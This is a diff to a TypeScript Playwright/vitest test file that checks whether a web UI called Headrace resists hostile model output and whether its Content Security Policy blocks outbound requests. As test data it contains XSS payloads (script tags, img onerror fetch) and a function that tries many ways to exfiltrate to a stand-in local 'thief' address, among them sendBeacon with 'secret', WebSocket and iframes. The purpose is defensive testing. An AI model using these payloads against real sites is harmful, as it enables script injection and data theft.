@@ -1,15 +1,25 @@
-import type { Browser, Page } from "playwright-core";
-import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+
+import type { Browser, BrowserContextOptions } from "playwright-core";
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
 
 import type { StreamEvent } from "../src/core/events.ts";
 import type { UserModel } from "../src/core/user-model.ts";
-import { buildWebUi, launchBrowser, missingBrowser, openPage } from "./support/browser.ts";
+import { buildWebUi, launchBrowser, missingBrowser, openPage, type WatchedPage } from "./support/browser.ts";
 import { startGateway } from "./support/gateway.ts";
+import { askInPlayground } from "./support/visits.ts";
 
 if (missingBrowser !== undefined) console.warn(`e2e-hostile-text.test.ts is skipped: ${missingBrowser}`);
 
-/** Where everything wants to go. Nobody listens there: asking is what must not happen. */
-const thief = "http://127.0.0.1:9/steal";
+/** Somebody who would like to be asked for something, and what was asked of them, even if it was only a connection. */
+const asked: string[] = [];
+const listener = createServer((request, response) => {
+  asked.push(`${request.method} ${request.url}`);
+  response.end();
+}).on("connection", () => asked.push("a connection"));
+await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
+const thief = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/steal`;
 
 const attacks: Record<string, string> = {
   script: `<script>document.title = "taken"; fetch("${thief}")</script>`,
@@ -39,19 +49,27 @@ describe.skipIf(missingBrowser !== undefined)("whatever a model or a caller writ
     buildWebUi();
     browser = await launchBrowser();
   }, 60_000);
-  afterAll(() => browser?.close());
+  beforeEach(() => (asked.length = 0));
+  afterAll(async () => {
+    await browser?.close();
+    listener.closeAllConnections();
+    await new Promise((resolve) => listener.close(resolve));
+  });
 
   /** Opens the UI of a gateway whose models say the worst. */
-  async function open(models: Record<string, UserModel>) {
+  async function open(models: Record<string, UserModel>, options: BrowserContextOptions = {}) {
     const { url } = await startGateway({ models });
-    return { url, ...(await openPage(browser, url)) };
+    return { url, ...(await openPage(browser, url, options)) };
   }
 
   /** Moves over all that there is, as a reader would, then looks at what is there. */
-  async function expectHarmless({ page, foreign }: { page: Page; foreign: string[] }): Promise<void> {
+  async function expectHarmless({ page, foreign, errors }: WatchedPage): Promise<void> {
     for (const link of await page.locator("main a[href^=http]").all()) await link.hover();
     expect(await page.evaluate(lookForHarm)).toEqual([]);
     expect(foreign).toEqual([]);
+    expect(asked).toEqual([]);
+    // The policy is for what nobody thought of: it had nothing to refuse.
+    expect(errors.filter((error) => error.includes("Content Security Policy"))).toEqual([]);
     expect(await page.title()).toContain("Headrace");
   }
 
@@ -60,7 +78,7 @@ describe.skipIf(missingBrowser !== undefined)("whatever a model or a caller writ
     const attacker: UserModel = ({ prompt }) => attacks[prompt]?.match(/[^]{1,9}/g) ?? [];
     const opened = await open({ attacker });
     for (const [index, name] of Object.keys(attacks).entries()) {
-      await ask(opened.page, name);
+      await askInPlayground(opened.page, name);
       await opened.page.getByRole("link", { name: "Open this stream" }).nth(index).waitFor();
       await opened.page.getByRole("button", { name: "Regenerate" }).waitFor();
     }
@@ -78,7 +96,7 @@ describe.skipIf(missingBrowser !== undefined)("whatever a model or a caller writ
     ];
     const name = `<img src=x onerror=fetch('${thief}')>`;
     const opened = await open({ [name]: () => events });
-    await ask(opened.page, everything);
+    await askInPlayground(opened.page, everything);
     await opened.page.getByRole("button", { name: "Regenerate" }).waitFor();
     await expectHarmless(opened);
     await opened.page.getByRole("link", { name: "Open this stream" }).click();
@@ -101,7 +119,7 @@ describe.skipIf(missingBrowser !== undefined)("whatever a model or a caller writ
       throw new Error(everything);
     };
     const opened = await open({ failing });
-    await ask(opened.page, "Go");
+    await askInPlayground(opened.page, "Go");
     await opened.page.getByRole("alert").waitFor();
     await expectHarmless(opened);
     await opened.page.goto(`${opened.url}/#/streams/${encodeURIComponent(`"><img src=x onerror=fetch('${thief}')>`)}`);
@@ -109,18 +127,29 @@ describe.skipIf(missingBrowser !== undefined)("whatever a model or a caller writ
     await expectHarmless(opened);
   });
 
-  test("the check notices what it is for", async () => {
+  test("the checks notice what they are for", async () => {
     const { page } = await open({ calm: () => ["calm"] });
     const harm = `<script></script><a href="javascript:1">x</a><p onclick="x()">y</p><img src="${thief}">`;
     await page.evaluate((html) => document.querySelector("main")?.insertAdjacentHTML("beforeend", html), harm);
     expect(await page.evaluate(lookForHarm)).toHaveLength(4);
   });
-});
 
-async function ask(page: Page, question: string): Promise<void> {
-  await page.getByRole("textbox", { name: "Message" }).fill(question);
-  await page.keyboard.press("Enter");
-}
+  test("even as markup, with scripts that run, it gets nowhere: the page's policy holds it", async () => {
+    const { page, foreign, errors } = await open({ calm: () => ["calm"] });
+    await page.evaluate(tryEverything, thief);
+    // Refused, each of them, before anybody was asked.
+    await expect
+      .poll(() => errors.filter((error) => error.includes("Content Security Policy")).length)
+      .toBeGreaterThan(8);
+    // For a form or a frame the browser may have connected before it looked at the policy.
+    expect(asked.filter((what) => what !== "a connection")).toEqual([]);
+    expect(foreign.filter((address) => !address.startsWith(thief))).toEqual([]);
+
+    const unprotected = await open({ calm: () => ["calm"] }, { bypassCSP: true });
+    await unprotected.page.evaluate(tryEverything, thief);
+    await expect.poll(() => new Set(asked).size, { message: "without a policy they get through" }).toBeGreaterThan(8);
+  });
+});
 
 /** Runs in the page: elements and attributes that have no business in it. */
 function lookForHarm(): string[] {
@@ -141,4 +170,34 @@ function lookForHarm(): string[] {
     }
     return found;
   });
+}
+
+/** Runs in the page, as if somebody had found a hole: every way to tell somebody else that comes to mind. */
+function tryEverything(address: string): void {
+  const to = (name: string) => `${address}/${name}`;
+  const markup = `<img src="${to("img")}"><iframe src="${to("frame")}"></iframe><object data="${to("object")}"></object>
+    <embed src="${to("embed")}"><video src="${to("video")}" poster="${to("poster")}"></video><audio src="${to("audio")}"></audio>
+    <svg><image href="${to("svg")}"/></svg><link rel="stylesheet" href="${to("style")}"><input type="image" src="${to("input")}">
+    <p style="background: url(${to("background")})">x</p><picture><source srcset="${to("source")}"><img></picture>
+    <form action="${to("form")}" target="hidden"></form>`;
+  document.querySelector("main")?.insertAdjacentHTML("beforeend", markup);
+  const quiet = () => {};
+  fetch(to("fetch")).catch(quiet);
+  navigator.sendBeacon(to("beacon"), "secret");
+  new Image().src = to("new-image");
+  for (const type of ["text/javascript", "module"]) {
+    const script = Object.assign(document.createElement("script"), { type, src: to(type) });
+    document.head.append(script);
+  }
+  const sheet = new CSSStyleSheet();
+  sheet.replaceSync(`main { background-image: url("${to("sheet")}") }`);
+  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
+  for (const open of [() => new EventSource(to("events")), () => new WebSocket(to("socket").replace("http", "ws"))]) {
+    try {
+      open();
+    } catch {
+      // Refused at once.
+    }
+  }
+  document.querySelector<HTMLFormElement>("main form")?.submit();
 }
